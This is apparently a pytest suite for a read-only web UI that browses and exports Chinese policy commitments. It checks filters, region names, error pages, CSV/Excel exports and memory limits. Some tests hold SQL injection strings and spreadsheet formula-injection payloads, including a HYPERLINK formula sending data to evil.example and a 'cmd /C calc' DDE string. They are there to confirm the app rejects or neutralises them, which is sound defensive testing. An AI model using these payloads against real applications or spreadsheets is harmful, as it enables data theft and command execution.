"""The UI's pages over a real store of the samples, through HTTP (Starlette's test client)."""
from __future__ import annotations

import csv
import hashlib
import io
import re
import time

import pytest
from fastapi.testclient import TestClient

from outputs.web.app import create_app


@pytest.fixture(scope="module")
def client(sample_store):
    return TestClient(create_app(sample_store), raise_server_exceptions=False)


def regions_in(html: str) -> list[str]:
    return re.findall(r"<tr>\s*<td>([^<]*)</td>", html)


def total(html: str) -> int:
    return int(re.search(r'id="total">共 (\d+)', html).group(1))


def test_home_redirects_to_commitments(client):
    r = client.get("/", follow_redirects=False)
    assert r.status_code in (302, 307) and r.headers["location"] == "/commitments"


@pytest.mark.parametrize("region, allowed", [
    ("370000", {"山东省", "济南市", "青岛市", "淄博市", "枣庄市", "潍坊市", "临沂市", "德州市"}),  # a province and its parts
    ("370300", {"淄博市"}),
    ("370200", {"青岛市"}),
])
def test_region_filter_covers_the_region_and_its_parts(client, region, allowed):
    html = client.get("/commitments", params={"region": region}).text
    assert total(html) > 0
    assert set(regions_in(html)) <= allowed


def test_region_facet_drills_down_from_provinces_to_cities(client):
    top = client.get("/commitments").text
    facet = top.split('data-facet="region"')[1].split("</div>")[0]
    assert "山东省" in facet and "淄博市" not in facet
    inside = client.get("/commitments", params={"region": "370000"}).text.split('data-facet="region"')[1].split("</div>")[0]
    assert "淄博市" in inside and "青岛市" in inside


@pytest.mark.parametrize("params, check", [
    ({"kind": "target"}, lambda html: set(re.findall(r'class="kind-(\w+)"', html)) == {"target"}),
    ({"year": "2026"}, lambda html: total(html) > 0),
    ({"indicator": "village_doctor_licensed_share"}, lambda html: "乡村医生" in html),
    ({"issuer": "淄博市卫生健康委员会"}, lambda html: set(regions_in(html)) == {"淄博市"}),
    ({"q": "乡村医生"}, lambda html: '<mark class="hit">乡村医生</mark>' in html),
    ({"q": "鄉村醫生"}, lambda html: '<mark class="hit">乡村医生</mark>' in html),   # a traditional query
    ({"q": "不存在的词语组合"}, lambda html: total(html) == 0),
])
def test_filters(client, params, check):
    r = client.get("/commitments", params=params)
    assert r.status_code == 200
    assert check(r.text)


def test_documents_listing_and_facets(client):
    html = client.get("/documents", params={"doc_type": "news"}).text
    assert total(html) >= 1 and 'data-facet="doc_type"' in html
    assert total(client.get("/documents", params={"q": "养老"}).text) >= 1


def test_a_commitment_opens_its_document_with_the_evidence_highlighted(client, sample_store):
    import sqlite3

    with sqlite3.connect(sample_store) as c:
        doc_id, idx, sentence = c.execute("SELECT doc_id, idx, sentence FROM commitments WHERE kind = 'target' LIMIT 1").fetchone()
    html = client.get(f"/documents/{doc_id}", params={"c": idx}).text
    current = re.findall(r'<mark class="[^"]*\bcurrent\b[^"]*"[^>]*>(.*?)</mark>', html.split('id="doctext"')[1], re.S)
    assert "".join(current).replace("\n", "") in sentence.replace("\n", "") and len("".join(current)) >= len(sentence) // 2
    assert f'id="c{idx}"' in html


def test_the_document_view_marks_the_value_itself(client, sample_store):
    import sqlite3

    with sqlite3.connect(sample_store) as c:
        doc_id, idx, value, unit = c.execute(
            "SELECT doc_id, idx, value, unit FROM commitments WHERE kind = 'target' AND value_start IS NOT NULL "
            "AND unit = '%' LIMIT 1").fetchone()
    html = client.get(f"/documents/{doc_id}", params={"c": idx}).text
    # the selected commitment's value is marked apart from the other values of its sentence
    marked_value = re.findall(r'<mark class="[^"]*\bval-current\b[^"]*"[^>]*>(.*?)</mark>', html.split('id="doctext"')[1], re.S)
    text = "".join(marked_value)
    assert text.endswith("%") and f"{value:g}" in text.replace("％", "%")


def test_exports_carry_the_filtered_rows(client):
    import openpyxl

    html = client.get("/commitments", params={"region": "370300"}).text
    r = client.get("/commitments.csv", params={"region": "370300"})
    assert r.headers["content-type"].startswith("text/csv") and r.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    assert len(rows) == total(html) and {row["地区"] for row in rows} == {"淄博市"}
    x = client.get("/commitments.xlsx", params={"region": "370300"})
    sheet = openpyxl.load_workbook(io.BytesIO(x.content)).active
    assert sheet.max_row - 1 == len(rows) and sheet.cell(1, 1).value == "地区"
    docs = list(csv.DictReader(io.StringIO(client.get("/documents.csv").content.decode("utf-8-sig"))))
    assert len(docs) == 12 and "发文字号" in docs[0]  # ten sample files, the compilation holding three documents


@pytest.mark.parametrize("path, params", [
    ("/commitments", {"year": "abc"}),
    ("/commitments", {"year": "2025 OR 1=1"}),
    ("/commitments", {"region": "370000' OR '1'='1"}),
    ("/commitments", {"page": "0"}),
    ("/commitments", {"page": "-1"}),
    ("/commitments", {"kind": "target' --"}),
    ("/commitments", {"indicator": "x; DROP TABLE commitments"}),
    ("/documents", {"doc_type": "1 UNION SELECT * FROM errors"}),
    ("/commitments", {"q": "养" * 500}),
    ("/commitments.csv", {"region": "1; DELETE FROM documents"}),
    ("/documents/x", {"c": "1 OR 1=1"}),
    ("/commitments", {"year": "²"}),  # str.isdigit() accepts what int() refuses
    ("/commitments", {"page": "¹"}),
    ("/documents", {"year": "２０２５"}),
    ("/commitments.xlsx", {"page": "٣"}),
])
def test_bad_parameters_get_a_plain_400(client, path, params):
    r = client.get(path, params=params)
    assert r.status_code == 400
    assert "请求参数有误" in r.text
    assert not re.search(r"Traceback|sqlite|SELECT|Error:", r.text)


@pytest.mark.parametrize("params", [
    {"issuer": "' OR '1'='1"},
    {"issuer": "x'; DROP TABLE commitments; --"},
    {"q": "'; DELETE FROM documents; --"},
    {"q": '" OR body MATCH "*'},
    {"q": "养老) OR (1=1"},
])
def test_injection_attempts_in_free_text_match_nothing_and_change_nothing(client, sample_store, params):
    before = hashlib.sha256(sample_store.read_bytes()).hexdigest()
    r = client.get("/commitments", params=params)
    assert r.status_code == 200
    assert total(r.text) == 0 or params.get("q", "").startswith("养老")
    assert hashlib.sha256(sample_store.read_bytes()).hexdigest() == before
    assert total(client.get("/commitments").text) > 0


@pytest.mark.parametrize("method", ["post", "put", "delete", "patch"])
def test_the_ui_is_read_only(client, method):
    assert getattr(client, method)("/commitments").status_code == 405


def test_the_connection_refuses_writes(sample_store):
    import sqlite3

    from outputs.web.queries import connect

    conn = connect(sample_store)
    with pytest.raises(sqlite3.OperationalError):
        conn.execute("DELETE FROM commitments")


def test_an_unexpected_error_shows_no_details(client, monkeypatch):
    from outputs.web import queries

    def boom(self, f):
        raise RuntimeError("secret internal detail")

    monkeypatch.setattr(queries.Query, "count", boom)
    r = client.get("/commitments")
    assert r.status_code == 500 and "服务器内部错误" in r.text and "secret" not in r.text


def test_unknown_document_is_404(client):
    r = client.get("/documents/not-a-document")
    assert r.status_code == 404 and "没有这份文件" in r.text


def test_no_store_is_a_clear_error(tmp_path):
    with pytest.raises(FileNotFoundError, match="policy.sqlite"):
        create_app(tmp_path / "policy.sqlite")


def test_source_shows_the_published_url_as_a_link_beside_the_path_read(tmp_path, samples):
    from outputs.store import Store
    from pipeline.process import extract_file

    url, bad_url = "https://www.example.gov.cn/art/1.html", "https://www.example.gov.cn/files/scan.pdf"
    page, scan = samples / "qingdao_elderly_care_notice.html", tmp_path / "scan.pdf"
    scan.write_bytes(b"%PDF-1.4 broken")
    with Store(tmp_path / "s.sqlite") as st:
        for path, u in ((page, url), (scan, bad_url), (samples / "weifang_news_report.txt", None)):
            result = extract_file(path)
            st.put_file(str(path), result.records, result.text)
            st.put_provenance(str(path), "0" * 64, path.stat().st_size, "2026-01-01T00:00:00+00:00", "file", u)
        docs = st.table("documents")
    c = TestClient(create_app(tmp_path / "s.sqlite"))
    linked = c.get(f"/documents/{docs.loc[docs['source'] == str(page), 'doc_id'].iloc[0]}").text
    assert f'<a href="{url}" rel="noopener noreferrer" target="_blank">{url}</a>' in linked and str(page) in linked
    plain = c.get(f"/documents/{docs.loc[docs['source'].str.endswith('weifang_news_report.txt'), 'doc_id'].iloc[0]}").text
    assert "本次读取" not in plain and "weifang_news_report.txt" in plain
    assert f'<a href="{bad_url}"' in c.get("/errors").text


def test_default_view_shows_comparable_rows_and_the_rest_is_one_filter_away(client, sample_store):
    import sqlite3

    with sqlite3.connect(sample_store) as c:
        comparable, unkeyed, reported, every = c.execute(
            "SELECT SUM(indicator_key IS NOT NULL AND kind != 'reported'), SUM(indicator_key IS NULL),"
            " SUM(kind = 'reported'), COUNT(*) FROM commitments").fetchone()
    assert comparable and unkeyed and every > comparable
    html = client.get("/commitments").text
    assert total(html) == comparable and "可比较" in html
    assert set(re.findall(r'class="kind-(\w+)"', html)) <= {"target", "provision"}
    # the facets offer the other rows, labelled, with the count a click shows
    facet = html.split('data-facet="indicator"')[1].split("</div>")[0]
    assert "（未归类）" in facet and str(unkeyed) in facet
    link = re.search(r'id="show-all" href="([^"]+)"', html).group(1).replace("&amp;", "&")
    assert total(client.get(link).text) == every
    assert total(client.get("/commitments", params={"indicator": "none"}).text) == unkeyed
    assert total(client.get("/commitments", params={"kind": "reported"}).text) == reported


@pytest.mark.parametrize("code, name", [
    ("110108", "海淀区"),
    ("110000", "北京市"),
    ("110100", "北京市市辖区"),   # a municipality's grouping: named, never the bare code
    ("500200", "重庆市所辖县"),
    ("370300", "淄博市"),
    ("379900", "山东省（其他地区）"),
])
def test_region_names_are_never_bare_codes(code, name):
    from outputs.web import queries

    assert queries.region_name(code) == name


@pytest.mark.parametrize("code, path", [
    ("110108", ["北京市", "海淀区"]),          # the 市辖区 level is skipped
    ("370303", ["山东省", "淄博市", "张店区"]),
    ("500101", ["重庆市", "万州区"]),
])
def test_breadcrumbs_skip_municipal_groupings(code, path):
    from outputs.web import queries

    assert [n for _, n in queries.region_path(code)] == path


@pytest.fixture(scope="module")
def beijing_client(tmp_path_factory):
    from outputs.store import Store
    from pipeline.process import extract_file

    folder = tmp_path_factory.mktemp("beijing")
    doc = folder / "haidian.txt"
    doc.write_text("北京市海淀区人民政府关于做好社区卫生服务工作的通知\n各街道办事处：\n"
                   "到2025年底，全区家庭医生签约服务覆盖率达到75%以上。\n北京市海淀区人民政府\n2024年3月1日\n",
                   encoding="utf-8")
    rar, scan, blank = folder / "a.rar", folder / "scan.pdf", folder / "blank.html"
    rar.write_bytes(b"Rar!\x1a\x07\x00")
    scan.write_bytes(b"%PDF-1.4 broken")
    blank.write_text("<html><body></body></html>", encoding="utf-8")
    with Store(folder / "s.sqlite") as st:
        for f in (doc, rar, scan, blank):
            result = extract_file(f)
            st.put_file(str(f), result.records, result.text)
        assert st.table("documents")["region_adcode"].tolist() == ["110108"]
    return TestClient(create_app(folder / "s.sqlite"))


def test_under_a_municipality_the_facet_and_breadcrumb_name_districts(beijing_client):
    for path in ("/commitments", "/documents"):
        html = beijing_client.get(path, params={"region": "110000", "all": 1}).text
        facet = html.split('data-facet="region"')[1].split("</div>")[0]
        assert "海淀区" in facet and "110100" not in facet and "市辖区" not in facet
        crumbs = beijing_client.get(path, params={"region": "110108", "all": 1}).text.split('class="crumbs"')[1].split("</span>")[0]
        assert re.findall(r">([^<>]+)</a>", crumbs) == ["北京市", "海淀区"]


def test_the_unread_page_gives_reasons_in_chinese(beijing_client):
    html = beijing_client.get("/errors").text
    rows = dict(re.findall(r'<td class="source">[^<]*?([\w.]+)</td><td class="reason">([^<]+)</td>', html))
    assert rows == {"a.rar": "不支持的格式：RAR 压缩包", "scan.pdf": "PDF 文件已损坏，无法打开",
                    "blank.html": "不是政策文件（列表页、错误页或空白页）"}


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "\t=1+1", "\r=1+1"]


def test_exports_neutralise_formulas(tmp_path):
    """Evidence sentences and titles that begin like a formula reach CSV and Excel exports as text."""
    import openpyxl

    from outputs.store import Store
    from pipeline.process import extract_file
    from tests.conftest import SAMPLES

    path = tmp_path / "policy.sqlite"
    result = extract_file(SAMPLES / "shandong_village_doctor_notice.txt")
    records = result.records
    for i, formula in enumerate(FORMULAS):
        records[0].commitments[i].sentence = formula
    records[0].title = FORMULAS[0]
    with Store(path) as store:
        store.put_file("x.txt", records, result.text)
    client = TestClient(create_app(path))
    everything = {"all": 1}  # every row, not only the comparable ones the default view shows
    rows = list(csv.reader(io.StringIO(client.get("/commitments.csv", params=everything).content.decode("utf-8-sig"))))
    sentences = [r[rows[0].index("依据原文")] for r in rows[1:]]
    for formula in FORMULAS:
        assert "'" + formula in sentences
    assert all(not s.startswith(("=", "+", "-", "@", "\t", "\r")) for s in sentences)
    sheet = openpyxl.load_workbook(io.BytesIO(client.get("/commitments.xlsx", params=everything).content)).active
    cells = [c.value for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + FORMULAS[0] in cells and not any(c.startswith("=") for c in cells)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_concurrent_exports_are_limited(client):
    """Beyond EXPORT_SLOTS exports at once, another is refused with 503 instead of taking more memory."""
    from outputs.web import app as app_module

    streams = [client.stream("GET", "/commitments.csv") for _ in range(app_module.EXPORT_SLOTS)]
    responses = [s.__enter__() for s in streams]
    try:
        assert all(r.status_code == 200 for r in responses)
        assert client.get("/commitments.xlsx").status_code == 503
    finally:
        for s in streams:
            s.__exit__(None, None, None)
    assert client.get("/commitments.xlsx").status_code == 200


def test_a_store_on_a_read_only_filesystem_is_served(sample_store, tmp_path):
    """A store in WAL mode on a read-only mount (no -shm file can be made): every page still answers."""
    import shutil
    import subprocess
    import sys

    if shutil.which("unshare") is None or subprocess.run(["unshare", "-m", "true"]).returncode != 0:
        pytest.skip("no mount namespaces here to make a read-only filesystem")
    mnt = tmp_path / "ro"
    mnt.mkdir()
    check = (
        "import sys; from fastapi.testclient import TestClient; from outputs.web.app import create_app; "
        "c = TestClient(create_app(sys.argv[1]), raise_server_exceptions=False); "
        "codes = [c.get(p).status_code for p in ('/commitments', '/documents', '/errors', '/commitments.csv')]; "
        "print(codes); sys.exit(0 if codes == [200] * 4 else 1)")
    script = (f"mount -t tmpfs none {mnt} && cp {sample_store} {mnt}/policy.sqlite && mount -o remount,ro {mnt} && "
              f"{sys.executable} -c \"{check}\" {mnt}/policy.sqlite")
    r = subprocess.run(["unshare", "-m", "sh", "-c", script], capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stdout + r.stderr


@pytest.fixture(scope="module")
def large_server(sample_store, tmp_path_factory):
    """`policy serve` (a real HTTP server on a free loopback port) on a generated store of 60,000 commitments:
    the sample store's commitments copied under new document ids."""
    import shutil

    from benchmarks.export_memory import grow_store, served

    tmp = tmp_path_factory.mktemp("large-store")
    db = tmp / "policy.sqlite"
    shutil.copy(sample_store, db)
    assert grow_store(db, LARGE) >= LARGE
    with served(db, tmp / "serve.log") as (base, pid):
        yield base, pid


LARGE = 60_000
# an export that held every row (as a DataFrame or a whole workbook) took about 13 KB a row, 780 MB here
EXPORT_BOUND_MB = 150


def test_four_exports_at_once_through_http_two_run_the_others_are_refused(large_server):
    """Four exports in flight on the real server: two (EXPORT_SLOTS) stream, the next two get 503 at once; when the
    clients of the first two go away midway, both slots come back (two exports run at once again)."""
    import httpx

    from outputs.web import app as app_module

    base, _ = large_server
    assert app_module.EXPORT_SLOTS == 2
    with httpx.Client(base_url=base, timeout=120) as c:
        held = [c.stream("GET", "/commitments.csv", params={"all": 1}) for _ in range(2)]
        responses = [h.__enter__() for h in held]
        try:
            assert [r.status_code for r in responses] == [200, 200]
            assert all(next(r.iter_bytes()) for r in responses)  # streaming, each holding its slot
            refused = [c.get(p, params={"all": 1}) for p in ("/commitments.xlsx", "/documents.csv")]
            assert [r.status_code for r in refused] == [503, 503]
            assert "导出繁忙" in refused[0].text
        finally:
            for h in held:  # both dropped by their clients midway
                h.__exit__(None, None, None)
        deadline = time.monotonic() + 60
        while True:  # a large export streaming and a small one beside it: both slots are free again
            with c.stream("GET", "/commitments.csv", params={"all": 1}) as r:
                codes = (r.status_code, c.get("/documents.csv").status_code if next(r.iter_bytes()) else None)
            if codes == (200, 200):
                break
            assert time.monotonic() < deadline, f"export slots still taken after their clients left: {codes}"
            time.sleep(0.5)


@pytest.mark.parametrize("path", ["/commitments.csv", "/commitments.xlsx"])
def test_an_export_of_a_large_store_stays_in_bounded_memory(large_server, path):
    """The server's resident memory while it answers an export of 60,000 commitments rises by less than
    EXPORT_BOUND_MB over its level before, and the export holds every row."""
    from benchmarks.export_memory import Peak, export

    base, pid = large_server
    export(base, path, "all=1&q=没有这样的句子")  # first use: imports and query plans, not what is measured
    with Peak(pid) as p:
        status, size, _ = export(base, path, "all=1")
    assert status == 200 and size > LARGE * (100 if path.endswith(".csv") else 10)
    assert p.peak - p.start < EXPORT_BOUND_MB, (p.start, p.peak)


def test_a_document_moved_to_a_page_writing_it_otherwise_shows_its_evidence_and_its_copies(tmp_path, samples):
    """A notice published alone and on a page writing its digits full-width: the file alone fails, the document moves
    to the page; its view marks each commitment's sentence in the text its offsets point into, and the documents
    export names the other files giving each document."""
    import sqlite3

    from outputs.store import Store
    from pipeline.process import extract_file

    compiled = extract_file(samples / "compilation_three_documents.txt")
    second = compiled.records[1]
    alone, page, again = tmp_path / "alone.txt", tmp_path / "page.txt", tmp_path / "repost.txt"
    for f in (alone, again):
        f.write_text(compiled.text[second.start:second.end], encoding="utf-8")
    wide = compiled.text[second.start:second.end].translate({c: c + 0xFEE0 for c in range(0x30, 0x3A)})
    page.write_text(compiled.text[:second.start] + wide + compiled.text[second.end:], encoding="utf-8")
    db = tmp_path / "policy.sqlite"
    with Store(db) as st:
        for f in (alone, page, again):
            result = extract_file(f)
            st.put_file(str(f), result.records, result.text)
        alone.write_bytes(b"")
        st.put_file(str(alone), extract_file(alone).records)
    with sqlite3.connect(db) as c:
        assert c.execute("SELECT source FROM documents WHERE doc_id = ?", (second.doc_id,)).fetchone()[0] == str(page)
        sentences = [s for (s,) in c.execute("SELECT sentence FROM commitments WHERE doc_id = ?", (second.doc_id,))]
    assert sentences
    client = TestClient(create_app(db), raise_server_exceptions=False)
    html = client.get(f"/documents/{second.doc_id}").text
    import html as html_lib

    shown = html_lib.unescape(re.sub(r"<[^>]+>", "", html.split('id="doctext">')[1].split("</div>")[0]))
    assert shown.strip() == compiled.text[second.start:second.end].strip()  # the text it was read from
    evidence = "".join(re.findall(r'<mark class="ev"[^>]*>([^<]*)', html))
    assert all(s[:10] in evidence for s in sentences) and "２" not in evidence
    assert "还见于 1 个文件" in html and str(again) in html.split('id="copies"')[1].split("</dd>")[0]
    rows = list(csv.DictReader(io.StringIO(client.get("/documents.csv").content.decode("utf-8-sig"))))
    assert sorted((r["来源"], r["其他来源"]) for r in rows) == [(str(page), ""), (str(page), ""), (str(page), str(again))]
